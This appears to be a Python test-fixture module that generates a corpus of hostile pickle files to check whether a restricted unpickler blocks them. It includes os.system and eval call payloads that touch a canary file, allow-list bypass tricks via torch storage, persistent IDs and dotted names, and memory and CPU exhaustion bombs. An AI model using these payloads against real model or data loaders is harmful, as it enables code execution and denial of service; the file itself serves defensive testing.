"""Makes pickles that try to get past a reader's list of allowed names, or to exhaust whoever reads them.

Each is bytes by a name, over all protocols that can write it. Those that would run something run ``touch`` on a canary
file, so that a test can see whether anything ran.
"""

from __future__ import annotations

import io
import pickle
import struct
from typing import Dict, Iterator, List, Tuple

PROTOCOLS = range(6)
MARK, STOP, REDUCE, BUILD, POP, TUPLE = b"(", b".", b"R", b"b", b"0", b"t"


class Call:
    """Pickles as a call of any importable function, which is all an attacker needs."""

    def __init__(self, function, *arguments, state=None):
        self.reduced = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.reduced


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def name(module: str, attribute: str, protocol: int) -> bytes:
    if protocol >= 4:
        return short(module) + short(attribute) + b"\x93"
    return f"c{module}\n{attribute}\n".encode()


def header(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def call(module: str, attribute: str, arguments: bytes, protocol: int) -> bytes:
    return name(module, attribute, protocol) + MARK + arguments + TUPLE + REDUCE


def string(value: str, protocol: int) -> bytes:
    return text(value) if protocol else b"V" + value.encode("raw-unicode-escape") + b"\n"


def corpus(canary: str) -> Dict[str, bytes]:
    """All hostile pickles by name; ``canary`` is the path they touch if they run."""
    made: Dict[str, bytes] = {}
    for label, data in _all(canary):
        assert label not in made, label
        made[label] = data
    return made


def _all(canary: str) -> Iterator[Tuple[str, bytes]]:
    command = f"touch {canary}"
    for p in PROTOCOLS:
        yield f"os.system-{p}", header(p) + call("os", "system", string(command, p), p) + STOP
        yield (
            f"posix.system-hidden-by-pop-{p}",
            (header(p) + call("posix", "system", string(command, p), p) + POP + b"N" + STOP),
        )
        yield (
            f"builtins.eval-{p}",
            header(p)
            + call("__builtin__" if p < 3 else "builtins", "eval", string(f"open({canary!r}, 'w')", p), p)
            + STOP,
        )
        yield f"dotted-name-{p}", header(p) + name("collections", "_sys.modules", p) + STOP
        yield f"dotted-function-{p}", header(p) + call("collections", "_sys.exit", b"N", p) + STOP
        yield (
            f"prefix-{p}",
            (
                header(p)
                + call("numpy.testing._private.utils", "runstring", string(f"open({canary!r},'w')", p) + b"}", p)
                + STOP
            ),
        )
        yield f"numpy.size-getitem-{p}", header(p) + call("numpy", "size", b"N", p) + STOP
        yield (
            f"build-on-function-{p}",
            (header(p) + name("_codecs", "encode", p) + b"}" + string("__defaults__", p) + b"Nsb" + STOP),
        )
        yield f"build-on-dict-{p}", header(p) + b"}" + b"}" + string("__class__", p) + b"Nsb" + STOP
        yield f"inst-{p}", header(p) + MARK + string(command, p) + b"ios\nsystem\n" + STOP
        yield f"obj-{p}", header(p) + MARK + name("os", "system", p) + string(command, p) + b"o" + STOP
        yield f"obj-on-allowed-{p}", header(p) + MARK + name("collections", "OrderedDict", p) + b"o" + STOP
        yield f"newobj-{p}", header(p) + name("collections", "OrderedDict", p) + b")\x81" + STOP
        yield f"newobj-ex-{p}", header(p) + name("collections", "OrderedDict", p) + b")}\x92" + STOP
        for opcode, size in ((b"\x82", 1), (b"\x83", 2), (b"\x84", 4)):
            yield f"extension-{size}-{p}", header(p) + opcode + (240).to_bytes(size, "little") + STOP
        yield f"nested-load-from-bytes-{p}", header(p) + _storage_call(_nested(command), p) + STOP
        yield f"nested-load-in-storage-id-{p}", header(p) + _storage_call(_nested_in_storage(command), p) + STOP
        yield (
            f"encode-with-other-codec-{p}",
            (header(p) + call("_codecs", "encode", string("a" * 100, p) + string("zlib", p), p) + STOP),
        )
        yield (
            f"bytes-of-8-gib-{p}",
            (header(p) + call("__builtin__" if p < 3 else "builtins", "bytes", b"\x8a\x05\0\0\0\0\2", p) + STOP),
        )
        yield (
            f"bytearray-of-8-gib-{p}",
            (header(p) + call("__builtin__" if p < 3 else "builtins", "bytearray", b"\x8a\x05\0\0\0\0\2", p) + STOP),
        )
        yield f"reconstruct-64-gib-{p}", header(p) + _reconstruct(b"\x8a\x06\0\0\0\0\x10\0", p) + STOP
        yield f"array-state-64-gib-{p}", header(p) + _array_state(b"\x8a\x06\0\0\0\0\x10\0", "f4", b"N", p) + STOP
        yield f"object-array-{p}", header(p) + _array_state(b"K\x01", "O8", b"]Na", p) + STOP
        yield f"void-array-{p}", header(p) + _array_state(b"K\x01", "V8", b"N", p) + STOP
        yield (
            f"trailing-pickle-{p}",
            pickle.dumps([1], p) + header(p) + call("os", "system", string(command, p), p) + STOP,
        )
        yield f"function-as-result-{p}", header(p) + b"]" + name("collections", "OrderedDict", p) + b"a" + STOP
        for what, numbers in BAD_TENSORS.items():
            yield f"tensor-{what}-{p}", header(p) + _tensor(numbers, p) + STOP
        yield f"deep-lists-{p}", header(p) + b"]" * 50_000 + b"a" * 49_999 + STOP
        yield f"persistent-id-{p}", header(p) + text("os.system") + b"Q" + STOP
        yield f"persistent-id-line-{p}", header(p) + b"Pos.system\n" + STOP
    # opcodes that exist in some protocols only, or need none
    yield "deep-tuples", b"\x80\x02)" + b"\x85" * 50_000 + STOP
    yield "deep-behind-shallow", _deep_behind_shallow()
    yield "tuple-hash-bomb", b"\x80\x02}" + b")q\0" + b"h\0h\0\x86q\1" + _doubling(60) + b"Ns" + STOP
    yield (
        "tuple-hash-bomb-in-set",
        b"\x80\x04\x8f(" + b")\x94" + b"h\0h\0\x86\x94" + _doubling_memo(60) + b"\x90" + STOP,
    )
    yield "long-tuple-keys", b"\x80\x02}q\0(" + b"N" * 100_000 + b"tq\1Ns" + b"h\1Ns" * 100_000 + STOP
    yield "memo-index-huge", b"\x80\x02Nr\xff\xff\xff\x7f" + STOP
    yield "memo-index-huge-line", b"Np99999999999999999\n" + STOP
    yield "memo-index-negative-line", b"Np-1\n" + STOP
    yield "get-negative-line", b"Np0\ng-1\n" + STOP
    yield "get-of-nothing", b"\x80\x02j\xff\xff\xff\x7f" + STOP
    for label, opcode in (("bytearray8", b"\x96"), ("binbytes8", b"\x8e"), ("binunicode8", b"\x8d")):
        for size in (2**33, 2**62, 2**64 - 1):
            yield f"{label}-claims-{size}", b"\x80\x05" + opcode + struct.pack("<Q", size) + b"abc" + STOP
    yield "binbytes-claims-4-gib", b"\x80\x04B\xff\xff\xff\xffabc" + STOP
    yield "binunicode-claims-4-gib", b"\x80\x04X\xff\xff\xff\xffabc" + STOP
    yield "frame-claims-all", b"\x80\x04\x95" + b"\xff" * 8 + b"N" + STOP
    yield "long4-claims-2-gib", b"\x80\x02\x8b\xff\xff\xff\x7f" + b"\1" * 100 + STOP
    yield "long4-negative", b"\x80\x02\x8b\xff\xff\xff\xff" + b"\1" * 100 + STOP
    yield "long-line-of-digits", b"L" + b"9" * 1_000_000 + b"L\n" + STOP
    yield "many-sets", b"\x80\x04(" + b"\x8f" * 1_500_000 + b"l" + STOP
    yield "many-marks", b"(" * 2_000_000 + STOP
    yield "encode-again-and-again", _again("_codecs", "encode", text("x" * 1_000_000) + text("latin1"), 1000)
    yield "array-again-and-again", _frombuffer_again(1_000_000, 1000)
    yield "storage-again-and-again", _storages_again(30_000)
    yield "colliding-integers", _colliding(30_000)
    yield "expanded-tensor", b"\x80\x02" + _tensor((0, (2**40,), (0,)), 2) + STOP
    yield "text-array-of-no-characters", b"\x80\x04" + _array_state(b"K\x01", "U1", b"C\4\xff\xff\xff\xff", 4) + STOP
    yield "next-buffer", b"\x80\x05\x97" + STOP
    yield "readonly-buffer", b"\x80\x05N\x98" + STOP
    yield "set-of-lists", b"\x80\x04\x8f(]]\x90" + STOP
    yield "append-to-function", b"\x80\x02" + name("collections", "OrderedDict", 2) + b"Na" + STOP
    yield "setitem-on-list", b"\x80\x02]K\0Ns" + STOP
    yield "cycle", b"\x80\x02]q\0h\0a" + STOP
    yield "reduce-list-as-arguments", b"\x80\x02" + name("collections", "OrderedDict", 2) + b"]R" + STOP
    yield "reduce-of-data", b"\x80\x02N)R" + STOP
    yield "stack-global-of-numbers", b"\x80\x04K\1K\2\x93" + STOP
    yield "newline-in-name", b"\x80\x04" + short("os\x1b[2J\n") + short("system") + b"\x93" + STOP
    yield "zip-archive", b"PK\x03\x04" + b"\0" * 100
    yield "json", b'[{"image_id": 1}]'
    yield "empty", b""


BAD_TENSORS = {
    "offset-negative": (-1, (4,), (1,)),
    "offset-beyond": (4, (1,), (1,)),
    "stride-negative": (3, (4,), (-1,)),
    "stride-beyond": (0, (4,), (2,)),
    "size-beyond": (0, (5,), (1,)),
    "size-negative": (0, (-4,), (1,)),
    "size-overflows": (0, (2**62, 4), (2**62, 1)),
    "ranks-differ": (0, (4,), (1, 1)),
}


def _number(value: int) -> bytes:
    data = value.to_bytes(9, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def _numbers(values: Tuple[int, ...]) -> bytes:
    return MARK + b"".join(map(_number, values)) + TUPLE


def storage_bytes(values: bytes, count: int, kind: str = "FloatStorage") -> bytes:
    """A storage as torch.save writes it, without torch."""
    out = io.BytesIO()
    for part in (0x1950A86A20F9469CFC6C, 1001):
        out.write(pickle.dumps(part, 2))
    sizes = {"short": 2, "int": 4, "long": 4}
    out.write(pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": sizes}, 2))
    key = "94410857984480"
    out.write(b"\x80\x02(" + text("storage") + b"q\0" + f"ctorch\n{kind}\n".encode() + b"q\1" + text(key) + b"q\2")
    out.write(text("cpu") + b"q\3K" + bytes([count]) + b"Ntq\4Q.")
    out.write(b"\x80\x02]q\0" + text(key) + b"q\1a.")
    return out.getvalue() + struct.pack("<q", count) + values


def _storage_call(data: bytes, protocol: int) -> bytes:
    if protocol >= 3:
        argument = b"B" + struct.pack("<I", len(data)) + data
    else:
        content = data.decode("latin-1")
        latin = string("latin1", protocol)
        if protocol:
            argument = call("_codecs", "encode", text(content) + latin, protocol)
        else:
            escaped = content.replace("\\", "\\u005c").replace("\n", "\\u000a")
            argument = call("_codecs", "encode", b"V" + escaped.encode("raw-unicode-escape") + b"\n" + latin, 0)
    return call("torch.storage", "_load_from_bytes", argument, protocol)


def _nested(command: str) -> bytes:
    return b"\x80\x02" + call("os", "system", text(command), 2) + STOP


def _nested_in_storage(command: str) -> bytes:
    good = storage_bytes(b"\0" * 4, 1)
    return good.replace(b"ctorch\nFloatStorage\nq\1", call("os", "system", text(command), 2) + b"q\1")


def _tensor(numbers: Tuple[int, Tuple[int, ...], Tuple[int, ...]], protocol: int) -> bytes:
    offset, size, stride = numbers
    storage = _storage_call(storage_bytes(b"\0" * 16, 4), protocol)
    arguments = storage + _number(offset) + _numbers(size) + _numbers(stride) + b"\x89" + b"}"
    return call("torch._utils", "_rebuild_tensor_v2", arguments, protocol)


def _core(protocol: int) -> str:
    return "numpy._core.multiarray" if protocol >= 4 else "numpy.core.multiarray"


def _reconstruct(length: bytes, protocol: int) -> bytes:
    arguments = name("numpy", "ndarray", protocol) + MARK + length + TUPLE + b"C\1b"
    return call(_core(protocol), "_reconstruct", arguments, protocol)


def _array_state(length: bytes, code: str, content: bytes, protocol: int) -> bytes:
    dtype = call("numpy", "dtype", string(code, protocol) + b"\x89\x88", protocol)
    dtype += MARK + b"K\3" + string("<", protocol) + b"NNN" + b"J\xff\xff\xff\xff" * 2 + b"K\0" + TUPLE + BUILD
    state = MARK + b"K\1" + MARK + length + TUPLE + dtype + b"\x89" + content + TUPLE
    return _reconstruct(b"K\0", protocol) + state + BUILD


def _doubling(levels: int) -> bytes:
    return b"".join(b"h%ch%c\x86q%c" % (n, n, n + 1) for n in range(1, levels))


def _doubling_memo(levels: int) -> bytes:
    return b"".join(b"h%ch%c\x86\x94" % (n, n) for n in range(1, levels))


def _deep_behind_shallow() -> bytes:
    """Every list of a chain also stands in the outermost, so the shortest way to each is short."""
    parts: List[bytes] = [b"\x80\x02(", b"]q\0"]
    for n in range(1, 5000):
        parts.append(
            b"]r" + struct.pack("<I", n) + b"j" + struct.pack("<I", n - 1) + b"a"
            if n > 255
            else b"]q%ch%ca" % (n, n - 1)
        )
    return b"".join(parts) + b"l" + STOP


def _again(module: str, attribute: str, arguments: bytes, times: int) -> bytes:
    once = b"\x80\x02(" + name(module, attribute, 2) + b"q\0" + MARK + arguments + b"tq\1R"
    return once + b"h\0h\1R" * times + b"l" + STOP


def _frombuffer_again(length: int, times: int) -> bytes:
    dtype = call("numpy", "dtype", text("u1") + b"\x89\x88", 4)
    dtype += MARK + b"K\3" + text("|") + b"NNN" + b"J\xff\xff\xff\xff" * 2 + b"K\0" + TUPLE + BUILD
    content = b"B" + struct.pack("<I", length) + b"\0" * length
    arguments = content + dtype + MARK + b"J" + struct.pack("<i", length) + TUPLE + text("C")
    return _again("numpy._core.numeric", "_frombuffer", arguments, times)


def _storages_again(times: int) -> bytes:
    unusual = storage_bytes(b"\0" * 4, 1).replace(b"longq\x07K\4", b"longq\x07K\7")
    return _again("torch.storage", "_load_from_bytes", b"B" + struct.pack("<I", len(unusual)) + unusual, times)


def _colliding(count: int) -> bytes:
    """Integers with one and the same hash: a dict of n of them takes n² comparisons."""
    keys = ((2**61 - 1) * (n + 1) for n in range(count))
    return b"\x80\x02}(" + b"".join(b"\x8a\x0a" + key.to_bytes(10, "little") + b"N" for key in keys) + b"u" + STOP
